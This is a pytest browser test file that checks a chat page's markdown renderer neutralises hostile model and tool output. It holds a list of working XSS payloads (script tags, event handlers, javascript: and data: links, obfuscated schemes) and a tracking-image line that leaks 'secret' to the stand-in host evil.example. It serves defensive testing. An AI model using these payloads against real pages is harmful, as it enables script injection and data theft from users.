"""The chat page's renderer against hostile model and tool output, in a real
browser (Chromium). Two checks each time: the DOM the renderer produced
holds nothing active (no script, no event handler, no SVG/MathML/style/
iframe/image, no link that is not http(s)/mailto, no style attribute), and
nothing ran (every payload would set `window.__pwned` or open a dialog).
The first check is what matters: the page's CSP would also stop most of
these, so "nothing ran" alone could hide a sanitiser bug."""

from __future__ import annotations

import json

import pytest

from tests.support.fake_llm import text, tool_call

pytestmark = [
    pytest.mark.browser,
    pytest.mark.services,
    pytest.mark.e2e,
    pytest.mark.django_db(transaction=True),
]

RUN = "window.__pwned=1"

MODEL_PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    f'<a href="javascript:{RUN}">x</a>',
    "[click](vbscript:msgbox(1))",
    f"<svg onload={RUN}><circle r=1 /></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    "<style>body { display: none }</style>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "![tracking](https://evil.example/leak?data=secret)",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | <b onmouseover={RUN}>x</b> |",
    f"| [x](javascript:{RUN}) | `<script>` |\n|---|---|\n| 1 | 2 |",
    f"[전화번호-1]<img src=x onerror={RUN}>",
    '<span class="pii revealable" data-token="[전화번호-1]">fake chip</span>',
    f"[[전화번호-1]](javascript:{RUN})",
    f"```html\n<script>{RUN}</script>\n```",
    f'<form action="javascript:{RUN}"><input autofocus onfocus={RUN}></form>',
    f'<a href="https://ok.example" onclick="{RUN}">ok</a>',
    "javascript:alert(1) www.example.com",
    f"<base href=javascript:{RUN}//>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f"<video><source onerror={RUN}></video>",
]

# What a rendered answer may contain, nothing else.
ALLOWED_TAGS = {
    "DIV", "P", "BR", "HR", "STRONG", "EM", "DEL", "S", "CODE", "PRE", "BLOCKQUOTE", "UL", "OL", "LI",
    "H1", "H2", "H3", "H4", "H5", "H6", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "A", "SPAN",
}  # fmt: skip

AUDIT_DOM = """
(root) => {
  const bad = [];
  for (const node of root.querySelectorAll("*")) {
    if (!ALLOWED.includes(node.tagName)) bad.push("tag " + node.tagName);
    for (const attr of node.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith("on") || name === "style" || name === "src" || name === "srcdoc" || name === "action"
          || name === "formaction" || name === "xlink:href") bad.push(node.tagName + "@" + name);
      if (name === "href" && !/^(https?:|mailto:)/i.test(attr.value.trim())) bad.push("href " + attr.value);
      if (name === "class" && node.tagName !== "SPAN" && node.tagName !== "DIV") {
        bad.push(node.tagName + " class " + attr.value);
      }
    }
    if (node.tagName === "SPAN" && node.classList.contains("pii")
        && (node.children.length || !/^\\[[^\\]]+-\\d+\\]$/.test(node.textContent))) bad.push("chip " + node.outerHTML);
  }
  return bad;
}
""".replace("ALLOWED", json.dumps(sorted(ALLOWED_TAGS)))


def open_chat(chat_env, pages):
    page = pages.open(chat_env.alice)
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.goto(chat_env.url("/"))
    page.wait_for_selector(".empty")
    page.requests = requests
    return page


def nothing_ran(page, pages) -> None:
    page.wait_for_timeout(300)  # handlers that would fire on load/error/focus
    assert page.evaluate("() => window.__pwned") is None
    assert pages.dialogs == []
    assert not [u for u in page.requests if "evil.example" in u or u.startswith("data:")]


def test_the_renderer_neutralises_every_payload(chat_env, pages):
    page = open_chat(chat_env, pages)
    for payload in MODEL_PAYLOADS:
        bad = page.evaluate(
            """([payload, audit]) => {
                const box = document.createElement("div");
                box.className = "markdown";
                box.appendChild(OwlRender.markdown(payload));
                document.getElementById("log").appendChild(box);
                return eval(audit)(box);
            }""",
            [payload, AUDIT_DOM],
        )
        assert bad == [], (payload, bad)
    # The text is shown as text, not dropped.
    shown = page.locator("#log").inner_text()
    assert "<script>" in shown and "onerror" in shown
    chips = page.locator("#log .pii").all_inner_texts()
    assert chips and set(chips) == {"[전화번호-1]"}
    nothing_ran(page, pages)


def test_hostile_model_and_tool_output_through_the_whole_stack(chat_env, pages):
    hostile_sql = (
        f"SELECT '<img src=x onerror={RUN}>' AS \"<svg onload={RUN}>\", "
        f"'[click](javascript:{RUN})' AS b, '<script>{RUN}</script>' AS c"
    )
    chat_env.fake.script = [
        tool_call("run_sql", {"connection": "sales", "sql": hostile_sql}),
        text("\n\n".join(MODEL_PAYLOADS)),
    ]
    page = open_chat(chat_env, pages)
    page.fill("#text", f"<img src=x onerror={RUN}> 보여줘")
    page.press("#text", "Enter")
    page.wait_for_selector(".step.outcome-success")
    page.wait_for_function("() => !document.querySelector('.working')")
    page.locator(".step summary").click()
    # Tool output: column names and cells as text in the step's table.
    step = page.locator(".step")
    assert f"<svg onload={RUN}>" in step.locator("th").first.inner_text()
    assert f"<img src=x onerror={RUN}>" in step.locator("td").first.inner_text()
    assert page.locator(".bubble.user").inner_text() == f"<img src=x onerror={RUN}> 보여줘"
    for selector in (".row.assistant .markdown", ".step .step-input", ".step .tool-result", ".bubble.user"):
        for index in range(page.locator(selector).count()):
            bad = page.locator(selector).nth(index).evaluate(f"root => ({AUDIT_DOM})(root)")
            assert bad == [], (selector, bad)
    nothing_ran(page, pages)
    page.reload()
    page.wait_for_selector(".step")
    nothing_ran(page, pages)


def test_tool_output_in_a_table_cell_rendered_by_the_demo_model(chat_env, pages):
    """The offline demo model turns rows into a markdown table: HTML in a
    cell must come out as text."""
    page = open_chat(chat_env, pages)
    demo = chat_env.models["owlai-offline-demo"]
    page.select_option("#model", str(demo.pk))
    page.fill("#text", f"@sales SELECT '<img src=x onerror={RUN}>' AS x, '<b onmouseover={RUN}>b</b>' AS y")
    page.press("#text", "Enter")
    page.wait_for_selector(".row.assistant .markdown table")
    page.wait_for_function("() => !document.querySelector('.working')")
    cells = page.locator(".row.assistant .markdown td").all_inner_texts()
    assert cells[:2] == [f"<img src=x onerror={RUN}>", f"<b onmouseover={RUN}>b</b>"]
    bad = page.locator(".row.assistant .markdown").evaluate(f"root => ({AUDIT_DOM})(root)")
    assert bad == []
    nothing_ran(page, pages)
